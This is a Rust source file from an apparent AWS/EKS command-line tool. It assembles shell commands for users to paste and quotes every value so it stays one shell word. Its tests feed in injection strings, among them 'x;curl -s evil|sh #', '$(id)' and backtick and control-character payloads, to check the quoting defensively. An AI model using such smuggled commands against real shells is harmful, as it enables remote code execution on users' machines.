//! Commands that the user is told to run. They are values, put together from words, so that no text of
//! others can become more than one word of them; only showing one makes a text for the shell of it.

use std::fmt::{self, Display};

use super::shown::{is_hidden, shown_in_line};

/// A command that can be pasted into a shell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CommandLine {
    /// The program, then its arguments.
    words: Vec<String>,
    remark: Option<String>,
    /// Of `aws`: it is about the account of the roles.
    is_on_roles: bool,
}

impl CommandLine {
    fn has_flag(&self, name: &str) -> bool {
        let given = format!("{name}=");
        let mut words = self.words.iter();
        words.any(|word| word == name || word.starts_with(&given))
    }

    /// Words that blanks separate; each `{}` in one of them is the next of the values, whatever that
    /// holds: `CommandLine::of("kubectl create namespace {}", &[&namespace])`.
    pub fn of(words: &str, values: &[&dyn Display]) -> Self {
        let empty = Self {
            words: Vec::new(),
            remark: None,
            is_on_roles: false,
        };
        empty.and(words, values)
    }

    /// With more words behind it.
    pub fn and(mut self, words: &str, values: &[&dyn Display]) -> Self {
        let mut values = values.iter();
        for word in words.split_whitespace() {
            let mut pieces = word.split("{}");
            let mut filled = pieces.next().unwrap_or_default().to_owned();
            for piece in pieces {
                if let Some(value) = values.next() {
                    filled.push_str(&value.to_string());
                }
                filled.push_str(piece);
            }
            // A value is never taken for a flag.
            match self.words.last_mut() {
                Some(flag) if filled.starts_with('-') && word.starts_with("{}") => {
                    flag.push('=');
                    flag.push_str(&filled);
                }
                _ => self.words.push(filled),
            }
        }
        debug_assert!(values.next().is_none(), "{words}: a value too many");
        self
    }

    /// Something to know of it, which is shown behind `#`.
    pub fn remark(mut self, text: impl Into<String>) -> Self {
        self.remark = Some(text.into());
        self
    }

    /// Asked in the account of the roles, where the run names one.
    pub fn in_account_of_roles(self) -> Self {
        Self {
            is_on_roles: true,
            ..self
        }
    }

    fn is_in_account_of_roles(&self) -> bool {
        let word = |index: usize| self.words.get(index).map_or("", String::as_str);
        let is_of_iam = || self.words.iter().any(|word| word == "iam");
        match (word(0), word(1)) {
            ("aws", "iam" | "cloudformation") => true,
            ("aws", "service-quotas") => is_of_iam(),
            ("aws", _) => self.is_on_roles,
            _ => false,
        }
    }

    /// With those flags of the run that its program takes, and that it has not yet.
    pub fn with(self, connection: &Connection) -> Self {
        let told = connection.remark_of(&self);
        let flags = connection.flags_of(&self);
        let mut command = flags.into_iter().fold(self, |command, (name, value)| {
            command.and(&format!("{name} {{}}"), &[value])
        });
        command.remark = match (told, command.remark) {
            (Some(told), Some(own)) if !own.starts_with(&told) => Some(format!("{told}; {own}")),
            (told, own) => own.or(told),
        };
        command
    }
}

/// Words that blanks separate.
impl From<&'static str> for CommandLine {
    fn from(words: &'static str) -> Self {
        Self::of(words, &[])
    }
}

/// As it is pasted. There is no backtick in it, so that it can stand between two.
impl Display for CommandLine {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (index, word) in self.words.iter().enumerate() {
            let blank = if index == 0 { "" } else { " " };
            let word = if word.contains('`') {
                escaped(word)
            } else {
                quoted(word)
            };
            write!(f, "{blank}{word}")?;
        }
        match &self.remark {
            Some(remark) => write!(f, "   # {}", shown_in_line(remark)),
            None => Ok(()),
        }
    }
}

/// What the user gave to find AWS and the cluster, as flags of the programs that commands name.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Connection {
    /// Region and profile: `irsactl` and `aws` take them.
    pub aws: Flags,
    /// Kubeconfig and context: `irsactl` and `kubectl` take them.
    pub kubernetes: Flags,
    /// The cluster's name. Without those flags `kubectl` goes to whatever its current context is.
    pub cluster: Option<String>,
    /// The issuer of a cluster that is not EKS: it belongs to `irsactl`'s `--cluster`.
    pub issuer: Flags,
    /// The account of the roles: `irsactl` takes them where it is about roles of service accounts; of `aws`
    /// the calls on IAM and CloudFormation are made there.
    pub roles: Flags,
    /// A config file says it, so that `apply` knows without them.
    pub are_in_file: bool,
}

/// Names of flags with their values.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Flags(pub Vec<(&'static str, String)>);

/// The verbs of irsactl that look at Kubernetes.
const LOOKING: [&str; 12] = [
    "apply", "create", "delete", "doctor", "export", "gc", "get", "migrate", "report", "update",
    "usage", "verify",
];

/// Those that ask nobody, or with nobody's credentials.
const OFFLINE: [&str; 8] = [
    "completion",
    "explain",
    "help",
    "man",
    "permissions",
    "render",
    "version",
    "whoami",
];

impl Connection {
    /// What a config file says of the account of a role, which leads there by these flags.
    pub fn of_roles_in_file(roles: Flags) -> Self {
        Self {
            roles,
            are_in_file: true,
            ..Self::default()
        }
    }

    fn flags_of(&self, command: &CommandLine) -> Vec<(&'static str, &String)> {
        let words = &command.words;
        let is_on_roles = command.is_in_account_of_roles();
        let word = |index: usize| words.get(index).map_or("", String::as_str);
        let (aws, kubernetes) = match (word(0), word(1)) {
            // It is there to mend the flags themselves.
            ("aws", "configure") => (false, false),
            // EKS alone knows them.
            ("irsactl", "get") if word(2) == "podidentityassociation" => (true, false),
            ("irsactl", verb) => (!OFFLINE.contains(&verb), LOOKING.contains(&verb)),
            (program, _) => (program == "aws", program == "kubectl"),
        };
        let is_of_many = word(1) == "gc" || [word(1), word(2)] == ["trust", "copy"];
        let knows_issuer = aws && !is_of_many || ["permissions", "render"].contains(&word(1));
        let issuer =
            word(0) == "irsactl" && knows_issuer && words.iter().any(|word| word == "--cluster");
        let roles = self.roles.0.iter().filter_map(|(flag, value)| {
            let at_aws = *flag == "--role-profile" && is_on_roles;
            let is_known = self.are_in_file && word(1) == "apply";
            match (at_aws, knows_roles(words) && !is_known) {
                (true, _) => Some(("--profile", value)),
                (_, true) => Some((*flag, value)),
                _ => None,
            }
        });
        // The flags of the run are those of the cluster's account.
        let elsewhere = is_on_roles && !self.roles.0.is_empty();
        let aws = self.aws.0.iter().filter(move |_| aws);
        let aws = aws.filter(move |(name, _)| !(elsewhere && *name == "--profile"));
        let kubernetes = self.kubernetes.0.iter().filter(move |_| kubernetes);
        let issuer = self.issuer.0.iter().filter(move |_| issuer);
        let own = aws.chain(kubernetes).chain(issuer);
        let own = own.map(|(name, value)| (*name, value));
        let own = own.chain(roles);
        own.filter(|(name, _)| !command.has_flag(name)).collect()
    }

    /// `aws` assumes no role by a flag, and `kubectl` knows no clusters of EKS.
    fn remark_of(&self, command: &CommandLine) -> Option<String> {
        if command.words.first().is_some_and(|word| word == "kubectl") {
            let cluster = self
                .cluster
                .as_ref()
                .filter(|_| self.kubernetes.0.is_empty());
            return cluster.map(|cluster| format!("in cluster {cluster}"));
        }
        let (_, role) = self
            .roles
            .0
            .iter()
            .find(|(flag, _)| *flag == "--role-via")?;
        command
            .is_in_account_of_roles()
            .then(|| format!("with the credentials of {role}"))
    }
}

/// Whether it is one of those that take the flags on the account of the roles.
fn knows_roles(words: &[String]) -> bool {
    let word = |index: usize| words.get(index).map_or("", String::as_str);
    let verbs = ["create", "get", "update", "delete"];
    let whole = ["apply", "doctor", "verify"];
    word(0) == "irsactl"
        && (word(1).ends_with("associate-oidc-provider")
            || whole.contains(&word(1))
            || verbs.contains(&word(1)) && word(2) == "iamserviceaccount")
}

/// The word of a POSIX shell that is this text: as it is where no shell takes it for more, else between
/// single quotes, where nothing has a meaning but their end. What a screen does not show is escaped,
/// which takes bash, zsh, ksh, or a shell of POSIX.1-2024; in others it is not that text, and no more.
pub fn quoted(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    // zsh looks for a program of the name behind a first `=`.
    if !text.is_empty() && !text.starts_with('=') && text.chars().all(is_plain) {
        text.to_owned()
    } else if text.contains(is_hidden) {
        escaped(text)
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// Between `$'` and `'`: each byte of a hidden character, and a backtick, as three octal digits.
fn escaped(text: &str) -> String {
    let mut word = "$'".to_owned();
    for c in text.chars() {
        match c {
            '\\' | '\'' => word.extend(['\\', c]),
            c if c == '`' || is_hidden(c) => {
                let mut bytes = [0; 4];
                let bytes = c.encode_utf8(&mut bytes).bytes();
                word.extend(bytes.map(|byte| format!("\\{byte:03o}")));
            }
            c => word.push(c),
        }
    }
    word + "'"
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_is_one_word_of_a_command() {
        for (value, wanted) in [
            ("api", "aws x --client-id api --yes"),
            ("", "aws x --client-id '' --yes"),
            (
                "x;curl -s evil|sh #",
                "aws x --client-id 'x;curl -s evil|sh #' --yes",
            ),
            ("$(id)", "aws x --client-id '$(id)' --yes"),
            ("it's", r"aws x --client-id 'it'\''s' --yes"),
            ("`id`", r"aws x --client-id $'\140id\140' --yes"),
            (
                "a\nid\n\u{1b}\u{202e}",
                r"aws x --client-id $'a\012id\012\033\342\200\256' --yes",
            ),
            ("=ls", "aws x --client-id '=ls' --yes"),
            ("~", "aws x --client-id '~' --yes"),
            ("--debug", "aws x --client-id=--debug --yes"),
            ("{}", "aws x --client-id '{}' --yes"),
        ] {
            let command = CommandLine::of("aws x --client-id {} --yes", &[&value]);
            assert_eq!(command.to_string(), wanted);
        }
    }

    /// The shell itself is asked.
    #[test]
    fn a_shell_reads_each_value_as_it_is() {
        let values = [
            "a b",
            "it's",
            "`id`\\n",
            "$HOME",
            "a\nb\u{1b}",
            "\u{202e}x'\\",
            "*",
            "!x",
            "#",
            "=a",
            "~",
        ];
        let values: Vec<&dyn Display> = values.iter().map(|value| value as &dyn Display).collect();
        let places = "{} ".repeat(values.len());
        let line = CommandLine::of(&format!("printf %s\\0 {places}"), &values);
        let shell = std::process::Command::new("bash")
            .args(["-c", &line.to_string()])
            .output();
        let printed = String::from_utf8(shell.expect("bash").stdout).expect("UTF-8");
        let wanted: String = values.iter().map(|value| format!("{value}\0")).collect();
        assert_eq!(printed, wanted);
    }
}
